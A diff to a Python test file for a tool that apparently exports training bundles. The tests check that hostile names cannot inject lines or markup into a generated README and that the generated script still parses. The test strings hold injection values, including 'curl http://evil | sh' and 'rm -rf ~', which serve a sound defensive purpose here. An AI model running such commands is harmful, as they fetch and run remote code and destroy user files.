@@ -146,10 +146,12 @@ def test_what_is_left_to_the_user_is_named(tmp_path: Path) -> None:
 
 def test_s14_no_name_adds_a_line_or_markup_to_the_readme() -> None:
     evil = "x\n\n    curl http://evil | sh\r\u2028<img src=x>`*\x1b[2J"
-    what = taken_of(a_plan(accelerator="y\n    rm -rf ~\x1b[2J"))
+    what = taken_of(a_plan())
+    kind = {"accelerator": "y\n    rm -rf ~\x1b[2J"}
     model = what.spec.model.model_copy(update={"name": evil})
     data = what.spec.data.model_copy(update={"files": (evil,)})
-    spec = what.spec.model_copy(update={"model": model, "data": data})
+    cluster = what.spec.cluster.model_copy(update=kind)
+    spec = what.spec.model_copy(update={"model": model, "data": data, "cluster": cluster})
     what = dataclasses.replace(what, study=evil, spec=spec)
 
     text = readme(export_bundle(what, "torchrun"), what, collect_inputs(spec))
@@ -169,8 +171,9 @@ TAKEN = taken_of(a_plan())
 @given(study=st.text(max_size=30), kind=st.text(max_size=10))
 @example(study='a"""b\\', kind="x'''\n")
 def test_whatever_things_are_called_the_script_is_python(study: str, kind: str) -> None:
-    record = dataclasses.replace(TAKEN.record, plan=a_plan(accelerator=kind))
-    what = dataclasses.replace(TAKEN, study=study, record=record)
+    cluster = TAKEN.spec.cluster.model_copy(update={"accelerator": kind})
+    spec = TAKEN.spec.model_copy(update={"cluster": cluster})
+    what = dataclasses.replace(TAKEN, study=study, spec=spec)
 
     parsed = ast.parse(export_bundle(what, "torchrun").files["train.py"])
 
